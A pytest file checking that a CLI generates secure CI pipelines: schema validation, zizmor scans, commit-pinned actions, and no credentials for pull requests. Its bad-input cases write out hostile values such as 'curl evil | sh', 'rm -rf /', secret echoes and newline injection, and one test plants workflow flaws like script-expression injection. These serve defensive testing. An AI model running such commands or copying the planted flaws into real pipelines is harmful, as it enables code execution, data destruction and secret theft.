"""`platformctl pipeline new`: what it writes, judged by published schemas and by zizmor, and what it refuses."""

import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from platformctl.__main__ import run
from platformctl.pipelines.pins import ACTIONS
from platformctl.pipelines.pipeline import GATE_FILES, SERVICE_FILES, Stage, render
from tests.pipeline_cases import GATE, ROLE, ROOT, SHOP, workflows, write

BIN = Path(sys.executable).parent


def judge(*command: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(part) for part in command], capture_output=True, text=True, check=False, timeout=120)


def check_schema(schema: str, file: Path) -> subprocess.CompletedProcess[str]:
    return judge(BIN / "check-jsonschema", "--builtin-schema", schema, file)


def test_the_gitlab_pipeline_keeps_to_gitlabs_published_schema(tmp_path: Path) -> None:
    (file,) = write(render(SHOP, "gitlab"), tmp_path)
    answer = check_schema("vendor.gitlab-ci", file)
    assert answer.returncode == 0, answer.stdout
    file.write_text(file.read_text().replace("when: manual", "when: by-hand"))
    assert check_schema("vendor.gitlab-ci", file).returncode == 1


def test_workflows_keep_to_githubs_published_schema(tmp_path: Path) -> None:
    for file in workflows(tmp_path):
        answer = check_schema("vendor.github-workflows", file)
        assert answer.returncode == 0, answer.stdout


def test_zizmor_finds_nothing_in_workflows_and_finds_what_is_planted(tmp_path: Path) -> None:
    files = workflows(tmp_path)
    answer = judge(BIN / "zizmor", "--offline", "--no-progress", "--quiet", *files)
    assert answer.returncode == 0, answer.stdout
    text = files[0].read_text()
    planted = {
        "a tag in place of a commit": re.sub(r"actions/checkout@\S+", "actions/checkout@v7", text),
        "an expression inside a script": text.replace("- run: make test", '- run: echo "${{ github.event.pull_request.title }}"'),
        "a token that stays in the checkout": text.replace("        with:\n          persist-credentials: false\n", ""),
        "strangers' code with our token": text.replace("  pull_request:", "  pull_request_target:"),
    }
    for flaw, flawed in planted.items():
        assert flawed != text, flaw
        files[0].write_text(flawed)
        assert judge(BIN / "zizmor", "--offline", "--no-progress", "--quiet", files[0]).returncode > 10, flaw


@pytest.mark.parametrize("text", [*render(SHOP, "github").values(), *render(GATE, "github").values()])
def test_every_action_is_pinned_to_a_commit_we_know(text: str) -> None:
    used = re.findall(r"uses: (\S+)@([0-9a-f]{40}) # (v\S+)", text)
    assert len(used) == text.count("uses:") > 0
    assert all((ACTIONS[name].commit, ACTIONS[name].version) == (commit, version) for name, commit, version in used)


def test_every_pin_is_used_and_is_a_commit() -> None:
    everything = "".join(text for pipeline in (SHOP, GATE) for text in render(pipeline, "github").values())
    assert {name for name in ACTIONS if f"{name}@" in everything} == set(ACTIONS)
    assert all(re.fullmatch(r"[0-9a-f]{40}", action.commit) for action in ACTIONS.values())


def test_environments_are_delivered_to_one_after_the_other() -> None:
    three = replace(SHOP, stages=[*SHOP.stages, Stage("dr", f"{ROLE}/dr")])
    jobs = yaml.safe_load(next(iter(render(three, "github").values())))["jobs"]
    assert jobs["image"]["needs"] == ["test", "gate"]
    assert jobs["deploy-staging"]["needs"] == ["image"]
    assert jobs["deploy-production"]["needs"] == ["image", "deploy-staging"]
    assert jobs["deploy-dr"]["needs"] == ["image", "deploy-production"]
    assert [jobs[f"deploy-{name}"]["environment"] for name in ("staging", "production", "dr")] == ["staging", "production", "dr"]
    lab = yaml.safe_load(next(iter(render(three, "gitlab").values())))
    assert lab["deploy-dr"]["needs"] == ["build", "sign", "deploy-production"]
    assert lab["deploy-dr"]["variables"]["AWS_ROLE_ARN"] == f"{ROLE}/dr"
    stages = re.findall(r"stage\('(.*)'\)", render(three, "jenkins")["Jenkinsfile"])
    assert stages[-3:] == ["Deploy to staging", "Deploy to production", "Deploy to dr"]


def test_a_run_for_a_pull_request_gets_no_credentials() -> None:
    jobs = yaml.safe_load(next(iter(render(SHOP, "github").values())))["jobs"]
    with_identity = {name for name, job in jobs.items() if "id-token" in job["permissions"]}
    assert with_identity == {"image", "deploy-staging", "deploy-production"}
    assert jobs["image"]["if"] == "github.event_name == 'push'"
    assert all("image" in jobs[name]["needs"] for name in with_identity - {"image"})
    lab = yaml.safe_load(next(iter(render(SHOP, "gitlab").values())))
    with_role = [job for job in lab.values() if isinstance(job, dict) and job.get("extends") == ".aws"]
    assert len(with_role) == 4
    assert all(job["rules"][0]["if"] == '$CI_COMMIT_BRANCH == "main"' for job in with_role)


@pytest.mark.parametrize("kind", SERVICE_FILES)
def test_the_same_declaration_gives_the_same_bytes_and_leaves_nothing_open(kind: str) -> None:
    files = render(SHOP, kind)
    assert files == render(SHOP, kind)
    assert not re.search(r"@\{|\}@\s*$|<%|%>", "".join(files.values()), re.MULTILINE)


def test_a_mirror_stands_before_every_image() -> None:
    text = render(SHOP, "gitlab", mirror="registry.example/cache")[".gitlab-ci.yml"]
    images = re.findall(r"(?:image|name): (\S+:v?\d\S*)", text)
    assert len(images) == 9
    assert all(image.startswith("registry.example/cache/") for image in images)


def test_the_gate_of_this_repository_is_the_one_that_is_written() -> None:
    ((path, text),) = render(GATE, "github").items()
    assert (ROOT / path).read_text() == text, "write it again: platformctl pipeline new --gate --force"


ARGUMENTS = [
    *("--registry", SHOP.registry, "--build-role", SHOP.build_role, "--signing-key", SHOP.signing_key),
    *("--environment", f"staging={ROLE}/a", "--environment", f"production={ROLE}/b"),
]


def test_files_are_written_and_not_overwritten_unasked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["pipeline", "new", "shop", *ARGUMENTS, "--out", str(tmp_path)]
    assert run(command) == 0
    file = tmp_path / ".github" / "workflows" / "shop.yaml"
    assert capsys.readouterr().out.splitlines() == [str(file)]
    file.write_text("mine")
    assert run(command) == 2
    assert f"{file}  is there already" in capsys.readouterr().err
    assert file.read_text() == "mine"
    assert run([*command, "--force"]) == 0
    assert "platformctl check" in file.read_text()


@pytest.mark.parametrize(
    ("arguments", "messages"),
    [
        (["Shop!", *ARGUMENTS], ["service 'Shop!'"]),
        (["shop"], ["--registry ''", "--build-role ''", "--signing-key ''", "at least one environment"]),
        (["shop", *ARGUMENTS, "--environment", f"staging={ROLE}/c"], ["staging is named twice"]),
        (["shop", *ARGUMENTS, "--environment", "qa=nobody"], ["--environment qa: 'nobody' is not the ARN of a role"]),
        (["shop", *ARGUMENTS, "--test", "make test; curl evil | sh"], ["--test"]),
        (["shop", *ARGUMENTS, "--test", "echo ${{ secrets.X }}"], ["--test"]),
        (["shop", *ARGUMENTS, "--program", "../other"], ["--program"]),
        (["shop", *ARGUMENTS, "--branch", "main\nsteps:"], ["--branch"]),
        (["shop", *ARGUMENTS, "--runner", "a, b]"], ["--runner"]),
        (["shop", *ARGUMENTS, "--package", "x; rm -rf /"], ["--package"]),
        (["shop", *ARGUMENTS, "--for", "travis"], ["--for 'travis': choose from github, gitlab, jenkins"]),
        (["shop", "--gate"], ["give a service or --gate, not both"]),
        (["--gate", "--for", "gitlab"], ["choose from github"]),
    ],
)
def test_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], messages: list[str]) -> None:
    out = ROOT if "--gate" in arguments else tmp_path
    assert run(["pipeline", "new", *arguments, "--out", str(out)]) == 2
    said = capsys.readouterr().err
    assert all(message in said for message in messages), said
    assert list(tmp_path.iterdir()) == []


def test_what_is_offered_is_what_there_are_templates_for() -> None:
    assert set(SERVICE_FILES) == {"github", "gitlab", "jenkins"}
    assert set(GATE_FILES) == {"github"}
